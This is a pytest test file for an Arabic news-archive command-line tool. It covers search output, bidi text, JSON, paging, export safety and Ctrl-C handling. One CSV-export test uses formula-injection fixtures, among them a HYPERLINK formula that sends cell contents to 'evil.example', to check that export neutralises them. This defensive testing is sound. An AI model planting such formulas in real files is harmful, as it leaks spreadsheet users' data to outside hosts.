"""What a person reads from the command line: the results table, marks, bidi, JSON, export,
paging, progress, Ctrl-C, the index from the environment, version, help (issue 12)."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import re
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

import archive
from archive import Archive
from archive.cli import app
from archive.document import Document
from archive.terminal import display_order, progress_bar, wants_reordering

ROOT = Path(__file__).resolve().parents[1]
runner = CliRunner()

TABLE_80 = """\
1 article contains these words                                                  
┌───┬────────────┬─────────────────────────────────────────────────────────────┐
│ # │ id         │ title / snippet                                             │
├───┼────────────┼─────────────────────────────────────────────────────────────┤
│ 1 │ econ-1     │                ارتفاع أسعار النفط بعد قرار أوبك خفض الإنتاج │
│   │ 2024-04-10 │  ارتفعت أسعار «النفط» في الأسواق العالمية بعد أن قررت منظمة │
│   │ BBC        │     أوبك وحلفاؤها خفض الإنتاج بمقدار مليون برميل يوميا، وسط │
│   │ 3.449      │                            مخاوف من تباطؤ الاقتصاد العالمي. │
└───┴────────────┴─────────────────────────────────────────────────────────────┘
1–1 of 1; archive show N opens result N                                         
"""


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory, news: list[Document]) -> Path:
    path = tmp_path_factory.mktemp("cli-output") / "index"
    Archive.build(news, path, encoder="none").close()
    return path


def _in_terminal(args: list[str], env: dict[str, str] | None = None, columns: int = 80) -> str:
    """Run ``archive ARGS`` with its output on a pseudo-terminal; what it printed (escapes kept)."""
    master, slave = pty.openpty()
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": str(columns), "TERM": "xterm-256color"}
    environment.pop("NO_COLOR", None)
    environment.update(env or {})
    proc = subprocess.Popen([sys.executable, "-m", "archive", *args], stdout=slave, stderr=subprocess.PIPE,
                            env=environment, cwd=ROOT)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    assert proc.wait(timeout=60) == 0, proc.stderr.read().decode() if proc.stderr else ""
    return b"".join(chunks).decode("utf-8")


# ---------------------------------------------------------------- the results table
def test_table_has_the_id_and_right_aligns_arabic(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط", "--index", str(index)], env={"COLUMNS": "80"})
    assert result.exit_code == 0, result.output
    assert result.output == TABLE_80  # piped: matches marked « », Arabic flush right, 80 columns used


def test_table_uses_the_terminal_width(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط", "--index", str(index)], env={"COLUMNS": "120"})
    lines = result.output.splitlines()
    assert {len(line) for line in lines} == {120}
    assert "│   │ 2024-04-10 │" in result.output


def test_shown_id_opens_with_show(index: Path) -> None:
    table = runner.invoke(app, ["search", "صاروخا باليستيا", "--mode", "lexical", "--index", str(index)]).output
    shown_id = table.splitlines()[4].split("│")[2].strip()  # under the title line and the header
    assert shown_id == "korea-1"
    result = runner.invoke(app, ["show", shown_id, "--index", str(index)])
    assert result.exit_code == 0 and "بيونغيانغ" in result.output


@pytest.mark.slow
def test_colour_terminal_marks_matches_and_bolds_only_the_title(index: Path) -> None:
    out = _in_terminal(["search", "النفط", "--index", str(index)])
    assert "\x1b[1;30;43mالنفط\x1b[0m" in out  # the match, coloured
    assert "«" not in out
    title_line = next(line for line in out.splitlines() if "ارتفاع أسعار" in line)
    snippet_line = next(line for line in out.splitlines() if "ارتفعت أسعار" in line)
    assert "\x1b[1m" in title_line
    assert "\x1b[1m" not in snippet_line.split("\x1b[1;30;43m")[0]  # the bold title does not run on


@pytest.mark.slow
def test_no_color_terminal_marks_matches_with_guillemets(index: Path) -> None:
    out = _in_terminal(["search", "النفط", "--index", str(index)], env={"NO_COLOR": "1"})
    assert "«النفط»" in out
    assert "43m" not in out  # no background colour


def test_bidi_choice() -> None:
    assert not wants_reordering("auto", is_terminal=True, env={"VTE_VERSION": "7600"})  # VTE reorders itself
    assert not wants_reordering("auto", is_terminal=True, env={"TERM": "xterm-256color"})
    assert wants_reordering("auto", is_terminal=True, env={"WT_SESSION": "x"})  # Windows Terminal: logical order
    assert wants_reordering("auto", is_terminal=True, env={"TERM_PROGRAM": "iTerm.app"})
    assert not wants_reordering("auto", is_terminal=False, env={"WT_SESSION": "x"})  # piped: for programs
    assert wants_reordering("on", is_terminal=False, env={})
    assert not wants_reordering("off", is_terminal=True, env={"WT_SESSION": "x"})


def test_bidi_on_prints_display_order(index: Path) -> None:
    title = "ارتفاع أسعار النفط بعد قرار أوبك خفض الإنتاج"
    result = runner.invoke(app, ["search", "النفط", "--bidi", "on", "--index", str(index)], env={"COLUMNS": "80"})
    assert result.exit_code == 0
    assert display_order(title) == title[::-1]  # all Arabic: display order is the reverse
    assert title[::-1] in result.output and title not in result.output
    assert "»طفنلا«" in result.output  # the marks, mirrored with the text
    off = runner.invoke(app, ["search", "النفط", "--bidi", "off", "--index", str(index)], env={"COLUMNS": "80"})
    assert off.output == TABLE_80


@pytest.mark.slow
def test_bidi_auto_in_windows_terminal_reorders(index: Path) -> None:
    out = _in_terminal(["search", "النفط", "--index", str(index)], env={"WT_SESSION": "1", "NO_COLOR": "1"})
    assert "ارتفاع أسعار النفط"[::-1] in out


# -------------------------------------------------------------------------- JSON
def test_json_ends_with_a_summary(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط OR الهلال", "--json", "--mode", "lexical", "--index", str(index)])
    *hits, summary = [json.loads(line) for line in result.output.splitlines()]
    assert [h["id"] for h in hits] == ["econ-1", "sport-1"] or [h["id"] for h in hits] == ["sport-1", "econ-1"]
    assert "body" not in hits[0]
    assert set(summary) == {"summary"}
    assert summary["summary"]["query"] == "النفط OR الهلال"
    assert summary["summary"]["mode"] == "lexical" and summary["summary"]["total"] == 2
    assert summary["summary"]["took_ms"] >= 0 and summary["summary"]["reason"] is None


def test_json_empty_result_says_why(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط", "--source", "CNN", "--json", "--index", str(index)])
    assert result.exit_code == 0
    (line,) = result.output.splitlines()
    summary = json.loads(line)["summary"]
    assert summary["total"] == 0 and summary["reason"] == "no article contains these words inside the filters"


def test_json_with_body(index: Path, news: list[Document]) -> None:
    result = runner.invoke(app, ["search", "النفط", "--json", "--with-body", "--index", str(index)])
    hit = json.loads(result.output.splitlines()[0])
    assert hit["body"] == next(d.body for d in news if d.id == "econ-1")


# ------------------------------------------------------------------- paging, -k
def test_limit_above_1000_is_refused_and_pages_follow(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط", "-k", "1001", "--index", str(index)], env={"COLUMNS": "200"})
    assert result.exit_code == 2 and "Invalid value for '-k' / '--limit'" in result.output
    assert "less than or equal to 1000" in result.output
    query = ["search", "أطلقت OR الهلال OR النفط", "--mode", "lexical", "--json", "--index", str(index)]
    every = [json.loads(x) for x in runner.invoke(app, query).output.splitlines()[:-1]]
    second = [json.loads(x) for x in runner.invoke(app, [*query, "--limit", "1", "--page", "2"]).output.splitlines()]
    assert len(every) == 4
    assert second[0]["id"] == every[1]["id"] and second[0]["rank"] == 2
    assert second[1]["summary"]["page"] == 2
    past = runner.invoke(app, [*query, "-k", "5", "--page", "2"]).output
    assert json.loads(past)["summary"]["reason"] == "no hits after the first 5"


def test_library_refuses_k_above_the_cap_and_pages(index: Path) -> None:
    with Archive(index) as arc:
        with pytest.raises(archive.QueryError, match="offset=1000"):
            arc.search("النفط", k=1001)
        ranked = [h.id for h in arc.search("أطلقت OR الهلال OR النفط", mode="lexical")]
        assert [h.id for h in arc.search("أطلقت OR الهلال OR النفط", k=2, offset=2, mode="lexical")] == ranked[2:4]


# ------------------------------------------------------------------------ export
def test_export_whole_archive_jsonl_rebuilds_it(index: Path, tmp_path: Path, news: list[Document]) -> None:
    out = tmp_path / "all.jsonl"
    result = runner.invoke(app, ["export", "--index", str(index), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert f"exported 6 articles to {out}" in result.output
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["id"] for r in records] == [d.id for d in news]
    assert records[1]["body"] == news[1].body and records[1]["published"] == "2024-04-10T12:00:00+00:00"
    rebuilt = runner.invoke(app, ["build", str(out), "--index", str(tmp_path / "again"), "--encoder", "none"])
    assert rebuilt.exit_code == 0, rebuilt.output
    with Archive(tmp_path / "again") as again:
        assert [(d.id, d.title, d.body, d.source, d.published) for d in again] == [
            (d.id, d.title, d.body, d.source, d.published) for d in news
        ]


def test_export_query_matches_as_csv(index: Path) -> None:
    result = runner.invoke(app, ["export", "منظمة", "--format", "csv", "--source", "BBC", "--source", "CNN",
                                 "--index", str(index)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["id"] for r in rows} == {"econ-1", "health-1"}
    assert list(rows[0]) == ["id", "title", "published", "source", "category", "url", "language", "author", "body"]
    assert "exported 2 articles" in result.stderr


def test_export_filters_only_and_bad_query(index: Path) -> None:
    result = runner.invoke(app, ["export", "--category", "world", "--index", str(index)])
    assert [json.loads(x)["id"] for x in result.stdout.splitlines()] == ["war-1", "korea-1"]
    result = runner.invoke(app, ["export", "في من", "--index", str(index)])
    assert result.exit_code == 1 and result.output.startswith("error: nothing to export")


def test_a_failed_or_empty_export_leaves_the_users_file_as_it_was(index: Path, tmp_path: Path) -> None:
    out = tmp_path / "keep.jsonl"
    assert runner.invoke(app, ["export", "--index", str(index), "-o", str(out)]).exit_code == 0
    before = out.read_bytes()
    out.chmod(0o640)
    for bad in (["في من"], ["كوريا", "--mode", "semantic"]):  # only stop words; meaning on a lexical-only index
        result = runner.invoke(app, ["export", *bad, "--index", str(index), "-o", str(out)])
        assert result.exit_code == 1, result.output
        assert out.read_bytes() == before
    nothing = runner.invoke(app, ["export", "--source", "لا مصدر بهذا الاسم", "--index", str(index), "-o", str(out)])
    assert nothing.exit_code == 0 and f"exported 0 articles: {out} was left as it was" in nothing.stderr
    assert out.read_bytes() == before
    fewer = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", str(out)])
    assert fewer.exit_code == 0 and f"exported 2 articles to {out}" in fewer.stderr
    assert [json.loads(x)["id"] for x in out.read_text(encoding="utf-8").splitlines()] == ["war-1", "korea-1"]
    assert out.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its mode
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.jsonl"]  # no partial file left beside it


def test_export_refuses_to_write_into_the_index_and_takes_dash_for_stdout(index: Path, tmp_path: Path) -> None:
    before = {p: p.read_bytes() for p in index.rglob("*") if p.is_file()}
    for target in (index / "CURRENT", index / "new.jsonl"):
        result = runner.invoke(app, ["export", "--index", str(index), "-o", str(target)])
        assert result.exit_code == 2, result.output
        assert "inside the index" in " ".join(re.sub("[│╭╮╰╯─]", " ", result.output).split())
    assert {p: p.read_bytes() for p in index.rglob("*") if p.is_file()} == before
    with Archive(index) as arc:
        assert len(arc) == 6
    dash = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", "-"])
    assert dash.exit_code == 0 and [json.loads(x)["id"] for x in dash.stdout.splitlines()] == ["war-1", "korea-1"]


def test_export_refuses_to_write_into_any_archive(index: Path, tmp_path: Path, news: list[Document]) -> None:
    """Not only the index exported: an export over another archive's manifest left it unreadable."""
    from archive.index.layout import current_generation

    other = tmp_path / "other"
    Archive.build(news[:3], other, encoder="none").close()
    live = current_generation(other)
    link = tmp_path / "link"
    link.symlink_to(live)
    before = {p: p.read_bytes() for p in other.rglob("*") if p.is_file()}
    for target in (live / "manifest.json", other / "new.jsonl", live / "lexical" / "new.jsonl",
                   link / "manifest.json"):
        result = runner.invoke(app, ["export", "--index", str(index), "-o", str(target)])
        assert result.exit_code == 2, result.output
        assert "inside the index" in " ".join(re.sub("[│╭╮╰╯─]", " ", result.output).split())
    assert {p: p.read_bytes() for p in other.rglob("*") if p.is_file()} == before
    assert Archive.check(other).healthy
    beside = runner.invoke(app, ["export", "--index", str(index), "-o", str(tmp_path / "beside.jsonl")])
    assert beside.exit_code == 0, beside.output


def test_export_to_dev_stdout_or_dev_stderr_into_a_pipe_or_a_file(index: Path, tmp_path: Path) -> None:
    """/dev/stdout into a pipe links to /proc/self/fd/1, which resolves to no path (pipe:[N]): the export
    tried to make its file under /proc and failed. A file the shell appends to keeps what it held."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "archive", "export", "--category", "world", "--index", str(index), "-o"]
    piped = subprocess.run([*command, "/dev/stdout"], capture_output=True, env=env, timeout=120)
    assert piped.returncode == 0, piped.stderr.decode()
    assert [json.loads(x)["id"] for x in piped.stdout.decode("utf-8").splitlines()] == ["war-1", "korea-1"]
    assert piped.stderr.decode() == "exported 2 articles to /dev/stdout\n"
    errors = subprocess.run([*command, "/dev/stderr"], capture_output=True, env=env, timeout=120)
    assert errors.returncode == 0 and errors.stdout == b"", errors.stderr.decode()
    *lines, said = errors.stderr.decode("utf-8").splitlines()
    assert [json.loads(x)["id"] for x in lines] == ["war-1", "korea-1"] and said == "exported 2 articles to /dev/stderr"
    out = tmp_path / "out.jsonl"
    out.write_text("سطر كتبه المستخدم قبل التصدير\n", encoding="utf-8")
    with open(out, "a", encoding="utf-8") as appended:  # archive export -o /dev/stdout >> out.jsonl
        result = subprocess.run([*command, "/dev/stdout"], stdout=appended, stderr=subprocess.PIPE, env=env,
                                timeout=120)
    assert result.returncode == 0, result.stderr.decode()
    first, *rows = out.read_text(encoding="utf-8").splitlines()
    assert first == "سطر كتبه المستخدم قبل التصدير" and [json.loads(x)["id"] for x in rows] == ["war-1", "korea-1"]


def test_export_writes_into_a_pipe_and_refuses_a_directory_before_exporting(index: Path, tmp_path: Path) -> None:
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    result = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", str(fifo)])
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert [json.loads(x)["id"] for x in got[0].decode("utf-8").splitlines()] == ["war-1", "korea-1"]
    assert fifo.is_fifo()  # still the pipe, not a file put in its place
    folder = tmp_path / "folder"
    folder.mkdir()
    refused = runner.invoke(app, ["export", "--index", str(index), "-o", str(folder)])
    assert refused.exit_code == 1 and "is a directory" in refused.stderr and list(folder.iterdir()) == []


def test_csv_export_shows_formulas_as_text_and_builds_the_same_archive(tmp_path: Path, news: list[Document]) -> None:
    tricky = [replace(news[0], id="=1+1", title='=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
                      author="'=كاتب"),
              replace(news[1], source="+cmd", body="@SUM(A1:A9) " + news[1].body),
              replace(news[2], title="-" + news[2].title)]
    Archive.build(tricky, tmp_path / "index", encoder="none").close()
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["export", "-f", "csv", "--bom", "--index", str(tmp_path / "index"), "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["id"] for r in rows] == ["'=1+1", news[1].id, news[2].id]
    assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[1]["source"] == "'+cmd"
    assert rows[1]["body"].startswith("'@SUM(") and rows[2]["title"] == "'-" + news[2].title
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert rows[0]["author"] == "''=كاتب"  # a quote the user wrote is kept: it gets one of its own
    rebuilt = runner.invoke(app, ["build", str(out), "--index", str(tmp_path / "again"), "--encoder", "none"])
    assert rebuilt.exit_code == 0, rebuilt.output
    with Archive(tmp_path / "again") as again:
        assert [(d.id, d.title, d.source, d.body, d.author) for d in again] == [
            (d.id, d.title, d.source, d.body, d.author) for d in tricky]


def test_export_streams(index: Path) -> None:
    """The library writes each article as it reads it: the first is out before the last is read."""
    seen: list[int] = []

    class Probe(io.StringIO):
        def write(self, text: str) -> int:
            seen.append(text.count("\n"))
            return super().write(text)

    with Archive(index) as arc:
        docs = arc.documents(duplicates=True)
        first = next(docs)  # a lazy iterator: the rest is not read yet
        assert first.id == "sport-1"
        assert arc.export(Probe(), format="jsonl") == 6
        docs.close()
    assert seen == [1] * 6


# ------------------------------------------------------------------ the library
def test_archive_from_a_path_repr_len_iteration_and_list_filters(index: Path, news: list[Document]) -> None:
    arc = Archive(str(index))
    try:
        assert repr(arc) == f"Archive({str(index)!r}, documents=6, encoder=None)"
        assert len(arc) == 6 == len(list(arc))
        assert [d.id for d in arc] == [d.id for d in news]
        hits = arc.search("منظمة", source=["BBC", "CNN"])
        assert {h.id for h in hits} == {"econ-1", "health-1"}
        assert [h.id for h in arc.search("منظمة", source=["CNN"])] == ["health-1"]
        assert {h.id for h in arc.search("أطلقت", category=("world", "science"))} == {"korea-1", "tech-1"}
    finally:
        arc.close()
    with pytest.raises(TypeError, match="Archive.build"):
        Archive(42)  # type: ignore[arg-type]
    with pytest.raises(archive.IndexNotFoundError, match="no such directory"):
        Archive(index.parent / "missing")


def test_several_values_of_one_filter_are_any_of_them(tmp_path: Path, news) -> None:  # noqa: ANN001
    from archive.index.columns import ColumnsBuilder, Columns, Filters

    builder = ColumnsBuilder()
    for doc in news:
        builder.add(doc)
    builder.write(tmp_path / "columns")
    columns = Columns(tmp_path / "columns")
    mask = columns.mask(Filters(sources=("BBC", "cnn"), categories=("world", "health")))
    assert [d.id for d, keep in zip(news, mask) if keep] == ["war-1", "health-1"]


def test_package_ships_py_typed() -> None:
    assert (ROOT / "archive" / "py.typed").is_file()
    import tomllib

    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    assert "py.typed" in project["tool"]["setuptools"]["package-data"]["archive"]


# ------------------------------------------------------------ progress, Ctrl-C
def test_progress_shows_counts_percent_and_rate() -> None:
    console = Console(file=io.StringIO(), force_terminal=True, width=120)
    with progress_bar(console) as progress:
        progress("index", 0, 300)
        progress("index", 150, 300)
        progress("index", 300, 300)
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert "300/300" in text and "100%" in text and "None" not in text
    assert "/s" in text


def test_progress_prints_nothing_when_not_a_terminal(tmp_path: Path, seed_path: Path) -> None:
    result = runner.invoke(app, ["build", str(seed_path), "--index", str(tmp_path / "i"), "--encoder", "none"])
    assert result.exit_code == 0 and result.output.startswith(f"{tmp_path / 'i'}: read 1 article"), result.output  # no blank line first
    console = Console(file=io.StringIO(), force_terminal=False)
    with progress_bar(console) as progress:
        progress("index", 0, 3)
        progress("index", 3, 3)
    assert console.file.getvalue() == ""  # type: ignore[attr-defined]


def test_build_reports_the_total_from_the_first_article(tmp_path: Path, news: list[Document]) -> None:
    calls: list[tuple[str, int, int | None]] = []
    Archive.build(news, tmp_path / "index", encoder="none", progress=lambda *a: calls.append(a)).close()
    assert calls[0] == ("index", 0, 6) and calls[-1] == ("index", 6, 6)
    assert all(total == 6 for _, _, total in calls)


def test_ctrl_c_during_a_build_keeps_the_archive(tmp_path: Path, news: list[Document], monkeypatch) -> None:
    index = tmp_path / "index"
    Archive.build(news[:3], index, encoder="none").close()
    source = tmp_path / "more.jsonl"
    source.write_text("".join(json.dumps({"id": d.id, "title": d.title, "body": d.body}, ensure_ascii=False) + "\n"
                              for d in news), encoding="utf-8")

    def interrupted(*args: object, **kwargs: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr("archive.index.stores.Whoosh.writer", interrupted)  # build
    monkeypatch.setattr("archive.index.stores.Whoosh.append", interrupted)  # add
    generations = sorted(p.name for p in index.iterdir())
    for command in (["build", str(source), "--full", "--encoder", "none"], ["add", str(source)]):
        result = runner.invoke(app, [*command, "--index", str(index)])
        assert result.exit_code == 130, result.output
        assert result.stderr == "interrupted: the archive is unchanged\n"
        assert sorted(p.name for p in index.iterdir()) == generations
    with Archive(index) as arc:
        assert [d.id for d in arc] == [d.id for d in news[:3]]


def test_ctrl_c_still_says_a_dead_writers_lock_was_taken_over(tmp_path: Path, news: list[Document],
                                                               monkeypatch) -> None:
    """The takeover warning is not lost when the run that takes the lock over is itself interrupted."""
    index = tmp_path / "index"
    Archive.build(news[:3], index, encoder="none").close()
    source = tmp_path / "more.jsonl"
    source.write_text("".join(json.dumps({"id": d.id, "title": d.title, "body": d.body}, ensure_ascii=False) + "\n"
                              for d in news), encoding="utf-8")

    def interrupted(*args: object, **kwargs: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr("archive.index.stores.Whoosh.writer", interrupted)
    monkeypatch.setattr("archive.index.stores.Whoosh.append", interrupted)
    for command in (["build", str(source), "--full", "--encoder", "none"], ["add", str(source)]):
        # what a writer killed while holding the lock leaves: its record, and no process holding the lock
        (index / ".lock").write_text(json.dumps({"pid": 999999, "host": "old-laptop", "since": "2026-12-01 10:00:00 UTC",
                                                 "command": "archive build"}) + "\n", encoding="utf-8")
        result = runner.invoke(app, [*command, "--index", str(index)])
        assert result.exit_code == 130, result.output
        lines = result.stderr.splitlines()
        assert lines[0].startswith(f"warning: {index}: the previous writer (pid 999999") and "taken over" in lines[0]
        assert lines[-1] == "interrupted: the archive is unchanged"
    with Archive(index) as arc:
        assert [d.id for d in arc] == [d.id for d in news[:3]]


# ------------------------------------------------------------ conveniences
def test_index_from_the_environment(index: Path) -> None:
    result = runner.invoke(app, ["search", "النفط", "--json"], env={"ARCHIVE_INDEX": str(index)})
    assert result.exit_code == 0, result.output
    assert json.loads(result.output.splitlines()[0])["id"] == "econ-1"
    result = runner.invoke(app, ["stats"], env={"ARCHIVE_INDEX": str(index)})
    assert "documents:  6" in result.output


def test_version() -> None:
    result = runner.invoke(app, ["--version"])
    assert result.exit_code == 0
    assert result.output == f"archive (news-archive) {archive.__version__}\n"
    assert f'version = "{archive.__version__}"' in (ROOT / "pyproject.toml").read_text(encoding="utf-8")


def test_completion_is_on() -> None:
    result = runner.invoke(app, ["--help"])
    assert "--install-completion" in result.output and "--show-completion" in result.output


def test_choices_are_listed_and_checked(index: Path) -> None:
    help_text = runner.invoke(app, ["search", "--help"], env={"COLUMNS": "200"}).output
    assert "hybrid|lexical|semantic" in help_text and "convex-z|convex|rrf" in help_text
    assert "auto|on|off" in help_text and "--limit" in help_text and "-k" in help_text
    build_help = runner.invoke(app, ["build", "--help"], env={"COLUMNS": "200"}).output
    assert "use-multilingual" in build_help and "st:MODEL" in build_help and "none" in build_help
    result = runner.invoke(app, ["search", "النفط", "--mode", "fuzzy", "--index", str(index)], env={"COLUMNS": "200"})
    assert result.exit_code == 2 and "'fuzzy' is not one of 'hybrid', 'lexical', 'semantic'" in result.output


@pytest.mark.slow
def test_help_has_no_programmer_tags() -> None:
    for name in ["", *[c.name or c.callback.__name__ for c in app.registered_commands]]:
        text = runner.invoke(app, [name, "--help"] if name else ["--help"], env={"COLUMNS": "200"}).output
        for tag in ("<list", "<str>", "<bool>", "<int", "<path>", "<float>", "{"):
            assert tag not in text, (name, tag)


@pytest.mark.slow
def test_show_in_a_terminal_right_aligns_and_reorders_on_request(index: Path, news: list[Document]) -> None:
    body = next(d.body for d in news if d.id == "econ-1")
    piped = runner.invoke(app, ["show", "econ-1", "--index", str(index)])
    assert piped.output.endswith(body + "\n")  # piped: the text as stored
    out = _in_terminal(["show", "econ-1", "--index", str(index)], env={"NO_COLOR": "1"}, columns=60)
    last_line = next(line.rstrip("\r") for line in out.splitlines() if "الاقتصاد العالمي." in line)
    assert last_line.startswith("  ") and last_line.endswith("العالمي.")  # wrapped at 60 columns, flush right
    assert len(last_line) == 60
    reordered = _in_terminal(["show", "econ-1", "--bidi", "on", "--index", str(index)], env={"NO_COLOR": "1"})
    assert "ارتفعت أسعار النفط"[::-1] in reordered


@pytest.mark.slow
def test_export_into_a_closed_pipe_ends_quietly(tmp_path: Path, news) -> None:  # noqa: ANN001
    """`archive export | head -1`: the reader stops early; no error, no traceback."""
    import os
    import subprocess
    import sys

    from archive import Archive, Document

    index = tmp_path / "index"
    many = [Document(id=f"{doc.id}-{i}", title=doc.title, body=f"{doc.body} (نسخة {i}) " * 8)
            for i in range(60) for doc in news]  # ~600 KB of JSON Lines: more than a pipe holds
    Archive.build(many, index, encoder=None, procs=1).close()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "archive", "export", "--index", str(index)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    first = proc.stdout.readline()  # type: ignore[union-attr]
    proc.stdout.close()  # type: ignore[union-attr]
    err = proc.stderr.read().decode()  # type: ignore[union-attr]
    assert proc.wait() == 0, err
    assert b'"id"' in first and "Traceback" not in err and "error" not in err


def test_dates_of_the_first_centuries_print_with_four_digit_years(tmp_path: Path) -> None:
    """strftime printed the year 1 as `1-01-01`; every listing prints ISO days."""
    from datetime import datetime, timezone

    old = Document(id="old-1", title="مخطوطة قديمة عن الفلك", body="وصف مخطوطة قديمة في علم الفلك.",
                   published=datetime(1, 1, 1, tzinfo=timezone.utc), source="أرشيف")
    Archive.build([old], tmp_path / "index", encoder="none").close()
    stats = runner.invoke(app, ["stats", "--index", str(tmp_path / "index")])
    assert "dates:      0001-01-01 .. 0001-01-01" in stats.output, stats.output
    found = runner.invoke(app, ["search", "مخطوطة", "--index", str(tmp_path / "index")], env={"COLUMNS": "100"})
    assert "0001-01-01" in found.output and " 1-01-01" not in found.output
    story = runner.invoke(app, ["story", "old-1", "--index", str(tmp_path / "index")])
    assert "0001-01-01" in story.output, story.output
